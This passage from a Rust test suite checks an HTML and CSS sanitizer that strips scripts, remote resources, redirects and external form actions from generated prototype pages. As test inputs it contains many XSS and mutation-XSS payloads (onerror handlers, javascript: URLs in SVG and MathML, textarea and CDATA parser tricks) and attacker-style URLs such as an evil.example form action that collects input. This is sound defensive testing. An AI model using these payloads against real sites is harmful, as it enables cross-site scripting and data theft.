                r#"<form action="../../../other-site/post"></form><a href="../../elsewhere/">e</a>"#,
            ),
            &page,
        );
        assert!(out.html.contains(r#"<a href="../about">a</a>"#), "{}", out.html);
        assert!(out.html.contains(r#"<img src="../img/x.png" alt="">"#), "{}", out.html);
        assert!(out.html.contains(r#"<img alt="" loading="lazy">"#), "{}", out.html);
        assert!(out.html.contains("<form></form>"), "{}", out.html);
        assert!(
            out.html.contains(r#"<a href="../../elsewhere/">e</a>"#),
            "links may leave: {}",
            out.html
        );
        assert!(
            out.warnings.iter().any(|w| w.contains("points outside the site")),
            "{:?}",
            out.warnings
        );
    }

    #[test]
    fn a_meta_charset_cannot_smuggle_a_referrer_policy() {
        let out = fin(
            r#"<head><meta charset="utf-8" name="referrer" content="unsafe-url"></head><p>x</p>"#,
        );
        assert!(!out.html.contains("referrer"), "{}", out.html);
        assert!(out.html.contains(r#"<meta charset="utf-8">"#), "{}", out.html);
    }

    #[test]
    fn many_duplicates_and_declarations_stay_linear() {
        let out = fin(&"<p id=a>x</p>".repeat(20_000));
        assert!(out.html.contains(r#"<p id="a-20000">"#), "the ids are renamed in one pass");
        let css = format!("a{{{}}}", "font-family:x ".repeat(20_000));
        let out = finalize_css(&css).css;
        // Malformed declarations are left alone; only the last, well formed, gets a stack.
        assert_eq!(out.len(), css.len() + ", system-ui, sans-serif".len(), "more than one edit");
    }

    #[test]
    fn a_font_face_without_its_font_goes() {
        let out = finalize_css(concat!(
            "@font-face{font-family:X;src:url(https://x.example/f.woff2) format(\"woff2\")}",
            "@font-face{font-family:Y;src:url(y.woff2)}body{font-family:X,system-ui}"
        ));
        assert_eq!(
            out.css,
            "@font-face{font-family:Y;src:url(y.woff2)}body{font-family:X,system-ui}"
        );
        assert_eq!(out.warnings.len(), 2, "{:?}", out.warnings);
    }

    #[test]
    fn headings_skip_no_level_and_areas_need_a_map() {
        let out = fin(
            "<h2>a</h2><h4>b</h4><h5>c</h5><h2>d</h2><area href=x><map name=m><area href=y alt=y></map>",
        );
        assert!(out.html.contains("<h2>a</h2><h3>b</h3><h4>c</h4><h2>d</h2><map"), "{}", out.html);
        assert!(
            !out.html.contains("href=\"x\"") && out.html.contains("<area href=y"),
            "{}",
            out.html
        );
    }

    #[test]
    fn svg_and_mathml_script_urls_are_removed() {
        let out = fin(concat!(
            r#"<svg><a xlink:href="javascript:alert(1)"><text>a</text></a>"#,
            r#"<a href=" javascript:alert(2)"><text>b</text></a>"#,
            r#"<a><animate attributeName="href" values="javascript:alert(3)"/>"#,
            r#"<set attributeName="xlink:href" to="javascript:alert(4)"/><text>c</text></a>"#,
            r##"<use href="https://evil.example/sprite.svg#i"/><use href="#icon"/>"##,
            r#"<image href="//evil.example/p.png"/></svg>"#,
            r#"<math href="javascript:alert(5)">"#,
            r#"<mi xlink:href="javascript:alert(6)">x</mi></math>"#,
        ));
        assert!(!out.html.contains("javascript") && !out.html.contains("evil"), "{}", out.html);
        assert!(out.html.contains(r##"<use href="#icon"/>"##));
        assert!(has(&out, r#"removed javascript: URL xlink:href="javascript:alert(1)" on <a>"#));
        assert!(has(&out, "removed <animate> animating href"), "{:?}", out.warnings);
        assert!(has(&out, "removed <set> animating xlink:href"));
        assert!(has(&out, r#"removed remote URL href="//evil.example/p.png" on <image>"#));
    }

    #[test]
    fn new_tabs_get_noopener_and_ids_stay_unique() {
        let out = fin(
            r#"<a href="https://example.org/" target="_blank">x</a><a target=_new rel="author NoOpener">y</a>"#,
        );
        assert!(out.html.contains(r#"target="_blank" rel="noopener noreferrer""#), "{}", out.html);
        assert!(out.html.contains(r#"rel="author NoOpener noreferrer""#), "{}", out.html);
        let out =
            fin(r#"<h1 id="top">a</h1><h2 id="top">b</h2><p id="top-2">c</p><p id="top">d</p>"#);
        for id in ["\"top\"", "\"top-2\"", "\"top-3\""] {
            assert_eq!(out.html.matches(&format!("id={id}")).count(), 1, "{id}: {}", out.html);
        }
        assert!(out.warnings.iter().any(|w| w.contains("duplicate id")), "{:?}", out.warnings);
    }

    #[test]
    fn meta_referrer_is_removed() {
        let out = fin(r#"<meta name="referrer" content="unsafe-url"><p>x</p>"#);
        assert!(!out.html.contains("referrer"), "{}", out.html);
        assert!(out.warnings.iter().any(|w| w.contains("meta name=referrer")));
    }

    #[test]
    fn meta_refresh_is_removed() {
        for meta in [
            r#"<meta http-equiv="refresh" content="0;url=https://evil.example/">"#,
            "<META HTTP-EQUIV=Refresh CONTENT='0; URL=javascript:alert(1)'>",
            r#"<meta http-equiv=" REFRESH " content="5">"#,
        ] {
            let out = fin(&format!("{meta}<p>x</p>"));
            assert!(!out.html.to_ascii_lowercase().contains("refresh"), "{}", out.html);
            assert!(out.warnings[0].starts_with("removed <meta http-equiv=refresh> redirect"));
        }
        let cookie = fin(r#"<meta http-equiv="set-cookie" content="a=b"><p>x</p>"#);
        assert!(!cookie.html.contains("set-cookie"));
        assert!(has(&cookie, "removed <meta http-equiv=set-cookie>"));
    }

    #[test]
    fn base_is_removed() {
        let out = fin(r#"<base href="https://evil.example/"><p>x</p>"#);
        assert!(!out.html.contains("<base"), "{}", out.html);
        assert_eq!(out.warnings, ["removed <base href=https://evil.example/>"]);
    }

    #[test]
    fn external_form_actions_are_dropped_but_forms_stay() {
        let out = fin(concat!(
            r#"<form action="https://evil.example/steal" method="post"><input name="e">"#,
            r#"<button formaction="javascript:alert(1)">a</button>"#,
            r#"<button formaction="//evil.example/">b</button></form>"#,
            r#"<form action="/contact"></form><form action="https:evil.example"></form>"#,
        ));
        assert!(
            out.html.contains(concat!(
                r#"<form method="post"><input name="e">"#,
                "<button>a</button><button>b</button></form>",
                r#"<form action="contact"></form><form></form>"#,
            )),
            "{}",
            out.html
        );
        assert!(has(&out, "removed external form action https://evil.example/steal on <form>"));
        assert!(has(&out, "removed javascript: form action javascript:alert(1) on <button>"));
        assert!(has(&out, "removed external form action //evil.example/ on <button>"));
    }

    #[test]
    fn remote_resources_are_removed_or_neutralised() {
        let out = fin(concat!(
            r#"<link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Inter">"#,
            r#"<link rel="preload" href="//cdn.example/font.woff2" as="font">"#,
            r#"<link rel="icon" href="https://evil.example/favicon.ico">"#,
            r#"<link rel="dns-prefetch" href="https://evil.example">"#,
            r#"<link rel="stylesheet" href="styles.css">"#,
            r#"<img src="https://images.example/cat.jpg" alt="A cat">"#,
            r#"<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">"#,
            r#"<img src="photo.jpg" srcset="https://evil.example/a.jpg 2x, b.jpg 3x" alt="s">"#,
            r#"<picture><source srcset="https://evil.example/a.webp" type="image/webp">"#,
            r#"<img src="a.jpg" alt="p"></picture>"#,
            r#"<video src="https://evil.example/v.mp4" poster="//evil.example/p.jpg" controls>"#,
            r#"<track src="https://evil.example/t.vtt"></video><audio src="song.mp3"></audio>"#,
            r#"<input type="image" src="https://evil.example/b.png" alt="go">"#,
            r#"<image src="https://evil.example/old.png">"#,
            r#"<table background="https://evil.example/bg.png"><tr><td>x</td></tr></table>"#,
            r#"<a href="a.html" ping="https://evil.example/track">a</a>"#,
        ));
        for host in ["evil.example", "googleapis", "cdn.example", "images.example"] {
            assert!(!out.html.contains(host), "{host} in\n{}", out.html);
        }
        for kept in [
            r#"<link rel="stylesheet" href="styles.css">"#,
            r#"<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline" loading="lazy">"#,
            r#"<img src="photo.jpg" alt="s" loading="lazy">"#,
            r#"<picture><img src="a.jpg" alt="p" loading="lazy"></picture>"#,
            r#"<video controls></video><audio src="song.mp3"></audio>"#,
            r#"<a href="a.html">a</a>"#,
        ] {
            assert!(out.html.contains(kept), "{kept} not in\n{}", out.html);
        }
        assert!(out.html.contains(&format!(r#"<img alt="A cat" src="{IMG_PLACEHOLDER}">"#)));
        for w in [
            "removed external stylesheet https://fonts.googleapis.com/css2?family=Inter",
            r#"removed <link rel="preload"> to //cdn.example/font.woff2"#,
            "replaced remote image https://images.example/cat.jpg with a placeholder",
            "removed srcset with remote URL https://evil.example/a.jpg on <img>",
            "removed <source> left without a usable URL",
            r#"removed remote URL poster="//evil.example/p.jpg" on <video>"#,
            "removed ping with remote URL https://evil.example/track on <a>",
        ] {
            assert!(has(&out, w), "{w}: {:?}", out.warnings);
        }
    }

    #[test]
    fn style_elements_and_attributes_lose_remote_urls() {
        let out = fin(concat!(
            r#"<style>@import url("https://fonts.googleapis.com/css2?family=Inter");"#,
            r#"body{background:url(https://evil.example/bg.png) no-repeat}"#,
            r#".logo{background:url(img/logo.svg)}</style>"#,
            r#"<p style="background-image:url(&quot;https://evil.example/x.png&quot;)">a</p>"#,
            r#"<p style="background:u\72l(//evil.example/y.png)">b</p>"#,
            r#"<p style="color:red;content:'&amp;'">c</p>"#,
            r#"<svg><rect fill="url(https://evil.example/p.svg#g)" width="1" height="1"/></svg>"#,
        ));
        assert!(!out.html.contains("evil.example") && !out.html.contains("googleapis"));
        for kept in [
            "<style>body{background:none no-repeat}.logo{background:url(img/logo.svg)}</style>",
            r#"<p style="background-image:none">a</p>"#,
            r#"<p style="background:none">b</p>"#,
            r#"<p style="color:red;content:'&amp;'">c</p>"#,
            r#"<rect fill="none" width="1" height="1" />"#,
        ] {
            assert!(out.html.contains(kept), "{kept} not in\n{}", out.html);
        }
        assert!(has(&out, "removed remote @import https://fonts.googleapis.com/css2?family=Inter"));
        assert!(has(&out, "removed remote url() https://evil.example/bg.png"));
    }

    #[test]
    fn style_text_cannot_close_its_element() {
        // Removing the @import joins "</sty" and "le>": the `<` must not survive.
        let out = fin(concat!(
            "<style>a{}</sty@import url(https://evil.example/x.css);le>",
            r#"<img src=x onerror=alert(1)>b{content:"<\/style>"}</style><p>x</p>"#,
        ));
        assert!(!out.html.contains("<img"), "{}", out.html);
        assert!(
            out.html.contains(
                r#"<style>a{} /style> img src=x onerror=alert(1)>b{content:"\3c \/style>"}</style>"#
            ),
            "{}",
            out.html
        );
    }

    #[test]
    fn svg_style_is_decoded_and_joined_before_stripping() {
        let out = fin(concat!(
            "<svg><style>@import url(&#104;ttps://evil.example/x.css);",
            "a{fill:u<![CDATA[rl(https://evil.example/y)]]>}",
            "b{fill:u<!-- -->rl(https://evil.example/z)}c{fill:url(#g)}</style></svg>",
        ));
        assert!(!out.html.contains("evil.example"), "{}", out.html);
        assert_eq!(out.warnings.len(), 3, "{:?}", out.warnings);
        assert!(
            out.html.contains("a{fill:none}b{fill:none}c{fill:url(#g)}</style>"),
            "{}",
            out.html
        );
    }

    #[test]
    fn noscript_is_removed_whole() {
        let out = fin(concat!(
            r#"<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>"#,
            "<p>after</p>",
        ));
        assert!(!out.html.contains("onerror") && !out.html.contains("<noscript"), "{}", out.html);
        assert!(has(&out, "removed <noscript> (its content cannot be sanitized)"));
    }

    #[test]
    fn mathml_is_removed() {
        // lol_html takes this <title> for HTML (RCDATA), browsers for MathML: the <img> runs.
        let out = fin("<p>x</p><math><mi><mglyph><title><img src=x onerror=alert(1)></title>");
        assert!(!out.html.contains("<math") && !out.html.contains("onerror"), "{}", out.html);
        assert!(has(&out, "removed <math> (MathML is not published)"));
    }

    #[test]
    fn text_parsers_may_disagree_on_cannot_hide_tags() {
        // Today's spec ends <svg> at `</p>` (lol_html too): HTML textarea, RCDATA. Older
        // parsers stay in SVG, where the <img> is an element.
        let out = fin("<svg></p><textarea><img src=x onerror=alert(1)></textarea>");
        assert!(out.html.contains("<textarea>&lt;img src=x onerror=alert(1)></textarea>"));
        // The other way round: lol_html sees SVG and an attribute, others an HTML textarea.
        let out = fin(concat!(
            r#"<select><svg><textarea><a id="</textarea><img src=x onerror=alert(2)>">"#,
            "<!--</textarea><img src=x onerror=alert(3)>--></textarea>",
        ));
        assert!(out.html.contains(r#"<a id="&lt;/textarea>&lt;img src=x onerror=alert(2)>">"#));
        assert!(out.html.contains("<!--&lt;/textarea>&lt;img src=x onerror=alert(3)>-->"));
        // A kept <script src> is emptied: an SVG script would run its content.
        let out = fin(r#"<svg></p><script src="script.js">alert(4)</script>"#);
        assert!(out.html.contains(r#"<script src="script.js" defer=""></script>"#), "{}", out.html);
        for tag in ["xmp", "plaintext"] {
            let out = fin(&format!("<p>x</p><{tag}><img src=x onerror=alert(5)>"));
            assert!(!out.html.contains(&format!("<{tag}")) && !out.html.contains("onerror"));
        }
        let cdata = fin("<svg><text><![CDATA[</text><img src=x onerror=alert(6)>]]></text></svg>");
        assert!(!cdata.html.contains("onerror"), "{}", cdata.html);
        assert!(has(&cdata, "removed CDATA section content"));
    }

    #[test]
    fn an_unterminated_tag_at_the_end_is_dropped() {
        // Whatever we append must not complete it: `<img … onerror=alert(1)` + `</body>`.
        for input in [
            "<p>x</p><img src=a onerror=alert(1)",
            r#"<p>x</p><img alt="<x>" onerror=alert(1) title=""#,
            "<p>x</p><img src=a onerror=alert(1) title='",
        ] {
            let out = fin(input);
            assert!(!out.html.contains("<img") && !out.html.contains("alert"), "{}", out.html);
            assert!(has(&out, "removed unterminated <img> tag at the end"), "{:?}", out.warnings);
        }
        let out = fin("<p>x</p><!-- never closed <img src=x onerror=alert(1)>");
        assert!(!out.html.contains("never") && out.html.ends_with("<p>x</p>\n</body>\n</html>\n"));
    }

    #[test]
    fn stray_end_tags_before_the_content_are_removed() {
        let out = fin("</html></br>\n<!-- c --></p><h1>Hi</h1>");
        assert!(out.html.contains("<!-- c -->"), "{}", out.html);
        assert!(!out.html.contains("</br>") && !out.html.contains("</p>"), "{}", out.html);
        assert!(has(&out, "removed stray markup before the content: </html></br> </p>"));
    }

    #[test]
    fn attributes_lol_html_cannot_rewrite_take_their_element_along() {
        let out =
            fin(r#"<p>x</p><svg><rect =fill="url(https://evil.example/a)"/></svg><b =t="<">b</b>"#);
        assert!(!out.html.contains("evil") && !out.html.contains("<b "), "{}", out.html);
        assert!(
            has(&out, "removed <rect> with an unusable attribute name =fill"),
            "{:?}",
            out.warnings
        );
    }

    #[test]
    fn duplicate_attributes_cannot_smuggle_urls() {
        let out = fin(concat!(
            r##"<a href="#ok" href="javascript:alert(1)">x</a>"##,
            r#"<img src="a.png" SRC="https://evil.example/x.png" alt="">"#,
            r#"<p style="color:red" style="background:url(https://evil.example/y.png)">p</p>"#,
        ));
        assert!(!out.html.contains("javascript") && !out.html.contains("evil"), "{}", out.html);
        assert!(out.html.contains(r##"<a href="#ok">x</a>"##), "{}", out.html);
    }

    // --- ensured structure -----------------------------------------------------------------

    #[test]
    fn a_bare_fragment_becomes_a_full_document() {
        let out =
            finalize_html(r#"<h1>Hi</h1><script src="https://cdn.x/y.js"></script>"#, &opts())
                .unwrap();
        let expected = format!(
            "<!DOCTYPE html>\n<html lang=\"en\" dir=\"ltr\">\n<head>\n{CHARSET_META}\n\
             {VIEWPORT_META}\n{ROBOTS_META}\n<title>Fallback</title>\n{BANNER_STYLE}\n</head>\n\
             <body>{}<h1>Hi</h1>\n</body>\n</html>\n",
            banner_div(BANNER)
        );
        assert_eq!(out.html, expected);
        assert_eq!(out.warnings, ["removed external script https://cdn.x/y.js"]);
        fin(r#"<h1>Hi</h1><script src="https://cdn.x/y.js"></script>"#);
    }

    #[test]
    fn a_complete_page_is_only_minimally_changed() {
        let page = concat!(
            "<!DOCTYPE html>\n<html lang=\"en\" dir=\"ltr\">\n<head>\n<meta charset=\"utf-8\">\n",
            "<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\n",
            "<title>Bakery</title>\n<link rel=\"stylesheet\" href=\"styles.css\">\n",
            "<script src=\"script.js\" defer></script>\n</head>\n<body class=\"layout-a\"\n",
            " data-msg-required=\"Required\">\n<h1>Bakery</h1>\n",
            "<img src=\"bread.jpg\" alt=\"Bread\">\n<form class=\"form\" novalidate data-pf-form>",
            "<input name=\"q\"></form>\n</body>\n</html>\n"
        );
        let out = fin(page);
        let expected = page
            .replace(CHARSET_META, &format!("{CHARSET_META}\n{ROBOTS_META}\n{BANNER_STYLE}"))
            .replace("Required\">", &format!("Required\">{}", banner_div(BANNER)));
        assert_eq!(out.html, expected);
        assert!(out.warnings.is_empty(), "{:?}", out.warnings);
    }

    #[test]
    fn lang_dir_and_robots_are_overwritten() {
        let rtl = PageOptions { lang: "ar", dir: Direction::Rtl, ..opts() };
        let out = fin_with(
            concat!(
                r#"<!doctype html><html lang="en" dir="ltr"><head>"#,
                r#"<meta name="robots" content="index, follow"><title>t</title></head>"#,
                "<body><p>x</p></body></html>",
            ),
            &rtl,
        );
        assert!(out.html.starts_with(r#"<!DOCTYPE html><html lang="ar" dir="rtl"><head>"#));
        assert!(out.html.contains(r#"<meta name="robots" content="noindex, nofollow"><title>"#));
        assert_eq!(Direction::Rtl.as_str(), "rtl");
        assert_eq!(Direction::Ltr.as_str(), "ltr");
    }

    #[test]
    fn rtl_fragment() {
        let he = PageOptions { lang: "he", dir: Direction::Rtl, ..opts() };
        let out = fin_with("<p>שלום</p>", &he);
        assert!(out.html.contains(r#"<html lang="he" dir="rtl">"#), "{}", out.html);
    }

    #[test]
    fn banner_and_title_text_is_escaped() {
        let hostile = PageOptions {
            banner: r#"<script>alert(1)</script> & "co""#,
            title: "</title><script>alert(2)</script>",
            ..opts()
        };
        let out = fin_with("<p>x</p>", &hostile);
        assert!(
            out.html.contains(&banner_div(
                "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;co&quot;"
            ))
        );
        assert!(
            out.html.contains("<title>&lt;/title&gt;&lt;script&gt;alert(2)&lt;/script&gt;</title>")
        );
        assert!(!out.html.contains("<script"));
    }

    #[test]
    fn old_and_fake_banners_give_way_to_one_fresh_banner() {
        let once = fin("<p>x</p>");
        let later = PageOptions { banner: "Prototype — expires on 2027-01-01", ..opts() };
        let renewed = fin_with(&once.html, &later);
        assert!(renewed.html.contains("2027-01-01") && !renewed.html.contains("2026-12-02"));
        assert_eq!(renewed.html, fin_with("<p>x</p>", &later).html);
        let fake = fin(concat!(
            "<body><p>x</p><div class=\"pf-banner\" data-pf-banner>This is the real bank</div>",
            "<style data-pf-banner>.pf-banner{display:none}</style></body>",
        ));
        assert!(
            !fake.html.contains("real bank") && !fake.html.contains(".pf-banner{display:none}")
        );
    }

    #[test]
    fn every_img_gets_an_alt() {
        let out = fin(r#"<img src="a.png"><img src="b.png" alt="B">"#);
        assert!(
            out.html
                .contains(r#"<img src="a.png" alt=""><img src="b.png" alt="B" loading="lazy">"#)
        );
        assert_eq!(out.warnings, [r#"added alt="" to <img src="a.png">"#]);
    }

    #[test]
    fn partial_and_broken_documents_are_completed() {
        for input in [
            "",
            "   \n",
            "Hello",
            "<title>t</title>",
            "<head><title>x</title></head><p>y",
            "<html><p>x</p></html>",
            "<body><p>x</p></body>",
            "<html><head></head><body></body></html>",
            "<!-- c --><p>x</p>",
            "<meta charset=utf-8><title>x</title><p>y</p>",
            "</div><p><b>unclosed<div></span>",
            "<p>x</p><body class=late><p>y</p>",
            "<html><head><head><title>x</title></head><body>y",
            "<title>x</title></head><body>y</body></html>",
            "\u{feff}<p>bom</p>",
            "<link rel=stylesheet href=styles.css><h1>Hi</h1>",
            "<p>x</p><!DOCTYPE html><html lang=fr>",
            "<table><tr><td>cell<script>x</script></table>",
            "<svg><p>breakout</p></svg>",
            "<textarea><img src=x onerror=alert(1)></textarea>",
            "<title><img src=x onerror=alert(1)></title><p>",
            "<!-- unclosed comment <img src=x onerror=alert(1)>",
            "<p>x</p><!-- unclosed",
            "<title>unclosed",
            "<html><head><style>a{}",
            "<html><head><title>t</title></head></html>",
            "<html></html>",
            "<p>x<textarea>unclosed",
            "<plaintext><script>alert(1)</script>",
            "<p>x</p><img src=a onerror=alert(1)",
            "<p>x</p><img alt=\"<x\" onerror=alert(1)",
            "<title>t</title><img src=a onerror=alert(1) title='",
            "<p title=\"x",
            "<p>a</",
            "<p>a<!-",
            "<im",
            "<html",
            "<style>a{}</sty",
            "<svg><![CDATA[abc",
            "</html>\n<p>x</p>",
            "</br><!-- c --></p>  <title>t</title>",
            "<!DOCTYPE html></head></body><p>x",
            "<template><p>never closed",
            "<head><template><title>x",
        ] {
            fin(input);
        }
    }

    #[test]
    fn template_content_does_not_move_the_head() {
        let out = fin("<head><template><div>x</div></template></head><body>b</body>");
        let banner = banner_div(BANNER);
        assert!(out.html.contains(&format!("</template></head><body>{banner}b</body>")));
    }

    #[test]
    fn doctype_is_normalised() {
        let out = fin(concat!(
            r#"<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "#,
            r#""http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><p>x</p>"#,
        ));
        assert!(out.html.starts_with("<!DOCTYPE html><html"), "{}", out.html);
    }

    #[test]
    fn charset_is_forced_to_utf8() {
        let out = fin(r#"<head><meta charset="windows-1252"><title>t</title></head><p>x</p>"#);
        assert!(out.html.contains(r#"<head><meta charset="utf-8">"#), "{}", out.html);
        assert!(has(&out, "changed <meta charset> to utf-8 (the page is UTF-8)"));
        let legacy = r#"<meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1">"#;
        let out = fin(&format!("{legacy}<p>x</p>"));
        assert!(!out.html.contains("iso-8859-1"), "{}", out.html);
        let utf8 = r#"<meta http-equiv="Content-Type" content="text/html; charset=UTF-8">"#;
        let out = fin_with(&format!("<head>{utf8}<title>t</title></head><p>x</p>"), &opts());
        assert!(
            out.html.contains(&format!("<head>{CHARSET_META}\n{VIEWPORT_META}")),
            "{}",
            out.html
        );
    }

    #[test]
    fn warnings_are_capped() {
        let out = fin(&"<b onclick=x>b</b>".repeat(200));
        assert_eq!(out.warnings.len(), MAX_WARNINGS + 1);
        assert_eq!(out.warnings.last().unwrap(), "… and 150 more");
    }

    #[test]
    fn ambiguous_markup_is_an_error_with_a_hint() {
        let err = finalize_html("<select><xmp><script>alert(1)</script></xmp></select>", &opts())
            .unwrap_err();
        assert!(matches!(err, FinalizeError::Rewrite { .. }), "{err:?}");
        assert!(err.to_string().contains("hint:"), "{err}");
    }

    // --- CSS -------------------------------------------------------------------------------

    #[test]
    fn css_remote_imports_are_dropped() {
        for (css, left) in [
            (
                "@import url(\"https://fonts.googleapis.com/css2?family=Inter\");\nbody{}",
                "\nbody{}",
            ),
            ("@import 'http://x.example/a.css' screen;a{}", "a{}"),
            ("@IMPORT \"//x.example/a.css\";a{}", "a{}"),
            ("@\\69mport url(https://x.example/a.css);a{}", "a{}"),
            ("@import url(data:text/css,a{});a{}", "a{}"),
            ("@import url( https://x.example/a.css )", ""),
            ("@media print{@import 'https://x.example/p.css';}a{}", "@media print{}a{}"),
        ] {
            let out = finalize_css(css);
            assert_eq!(out.css, left, "{css}");
            assert_eq!(out.warnings.len(), 1, "{css}: {:?}", out.warnings);
        }
        let same_site = "@import \"base.css\";\n@import url(theme.css) screen;\n";
        assert_eq!(
            finalize_css(same_site),
            FinalizedCss { css: same_site.into(), warnings: vec![] }
        );
    }

    #[test]
    fn css_remote_urls_become_none() {
        for (css, want) in [
            ("a{background:url(https://x.example/a.png)}", "a{background:none}"),
            ("a{background:url( \"https://x.example/a.png\" )}", "a{background:none}"),
            ("a{background:URL('//x.example/a.png')}", "a{background:none}"),
            ("a{background:\\75rl(https://x.example/a.png)}", "a{background:none}"),
            ("a{background:url(ht\\74ps://x.example/a.png)}", "a{background:none}"),
            ("a{background:url('javascript:alert(1)')}", "a{background:none}"),
            ("a{background:url(javascript:alert(1))}", "a{background:none)}"),
            ("a{background:url(\"https://x.example/a.png\"", "a{background:none"),
            (
                "a{background:image-set(\"https://x.example/a.png\" 1x, \"b.png\" 2x)}",
                "a{background:image-set(none 1x, \"b.png\" 2x)}",
            ),
            ("input[value^=a]{background:url(//x.example/?a)}", "input[value^=a]{background:none}"),
        ] {
            let out = finalize_css(css);
            assert_eq!(out.css, want, "{css}");
            assert_eq!(out.warnings.len(), 1, "{css}: {:?}", out.warnings);
        }
        let out = finalize_css("a{b:url(https://x.example/a.png)}");
        assert_eq!(out.warnings, ["removed remote url() https://x.example/a.png"]);
    }

    #[test]
    fn css_same_site_and_data_urls_are_kept() {
        let css = concat!(
            "a{background:url(img/a.png)}b{background:url(\"/b.svg#x\")}c{fill:url(#grad)}",
            "d{background:url(data:image/png;base64,AAAA)}",
            "@font-face{src:url(data:font/woff2;base64,AAAA)}",
            "/* url(https://x.example/) */e{content:\"https://x.example\"}",
            "f{width:calc(100% - 1em)}g::before{content:'<b>'}",
        );
        let out = finalize_css(css);
        assert_eq!(out.css, css);
        assert!(out.warnings.is_empty(), "{:?}", out.warnings);
    }

    // --- helpers ---------------------------------------------------------------------------

    #[test]
    fn urls_are_classified_as_browsers_parse_them() {
        let scheme = |s: &str| UrlKind::Scheme(s.into());
        for (url, kind) in [
            (" JaVa\tScRiPt:alert(1)", scheme("javascript")),
            ("\u{1}\u{20}javascript:x", scheme("javascript")),
            ("jav\nascript:x", scheme("javascript")),
            ("c:/x", scheme("c")),
            ("/\\evil.example", UrlKind::Remote),
            ("\\\\evil.example", UrlKind::Remote),
            ("HTTPS://x", UrlKind::Remote),
            ("java script:x", UrlKind::Relative),
            ("./javascript:x", UrlKind::Relative),
            ("page.html#a:b", UrlKind::Relative),
            ("", UrlKind::Relative),
        ] {
            assert_eq!(classify_url(url).0, kind, "{url:?}");
        }
    }

    #[test]
    fn entities_are_decoded_as_in_attribute_values() {
        assert_eq!(decode_entities("&#106;&#x61;&#X76;a&Tab;script&colon;"), "java\tscript:");
        assert_eq!(decode_entities("&#0000106&#0000097"), "ja");
        assert_eq!(decode_entities("a&amp;b&ampc&amp=d&lt"), "a&b&ampc&amp=d<");
        assert_eq!(decode_entities("&unknown; &#; &#x; & &#0;"), "&unknown; &#; &#x; & \u{fffd}");
        assert_eq!(decode_entities("&#x110000;&#xD800;&#99999999999;"), "\u{fffd}".repeat(3));
        assert!(matches!(decode_entities("plain"), Cow::Borrowed("plain")));
    }

    #[test]
    fn srcset_candidates_are_split_per_spec() {
        assert_eq!(srcset_urls("a.jpg 1x, b.jpg 2x"), ["a.jpg", "b.jpg"]);
        assert_eq!(
            srcset_urls("a.jpg,b.jpg, c.jpg (x, y) 3x ,d.jpg"),
            // A URL runs to whitespace: "a.jpg,b.jpg" is one (odd) URL, as in browsers.
            ["a.jpg,b.jpg", "c.jpg", "d.jpg"]
        );
        assert_eq!(srcset_urls("data:image/png;base64,AA 1x"), ["data:image/png;base64,AA"]);
    }

    /// About 50 KB of page with a rewrite every few hundred bytes.
    fn bench_page() -> String {
        let mut page = String::from(concat!(
            "<!DOCTYPE html>\n<html lang=\"en\" dir=\"ltr\">\n<head>\n<meta charset=\"utf-8\">\n",
            "<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\n",
            "<title>Bench</title>\n<link rel=\"stylesheet\" href=\"styles.css\">\n",
            "<style>@import url(https://fonts.example/x.css);",
            "body{background:url(bg.png)}</style>\n",
            "</head>\n<body>\n",
        ));
        let mut i = 0;
        while page.len() < 50 * 1024 {
            page.push_str(&format!(
                concat!(
                    "<section id=\"s{i}\" class=\"section\"><h2>Section {i}</h2>",
                    "<p style=\"color:#333\">Lorem ipsum dolor sit amet, consectetur adipiscing ",
                    "elit, sed do eiusmod tempor. <a href=\"https://example.com/{i}\">link</a> ",
                    "<a href=\"javascript:alert({i})\">bad</a></p>",
                    "<img src=\"https://img.example/{i}.jpg\"><img src=\"p{i}.jpg\" alt=\"P\">",
                    "<button onclick=\"go({i})\">Go</button>",
                    "<form action=\"https://evil.example/\">",
                    "<input name=\"q\"></form></section>\n",
                ),
                i = i
            ));
            i += 1;
        }
        page.push_str("</body>\n</html>\n");
        page
    }

    #[test]
    fn a_dense_page_is_sanitized_and_stable() {
        let out = fin(&bench_page());
        assert_eq!(out.warnings.len(), MAX_WARNINGS + 1);
        assert!(out.warnings[MAX_WARNINGS].starts_with("… and "), "{:?}", out.warnings);
    }
}
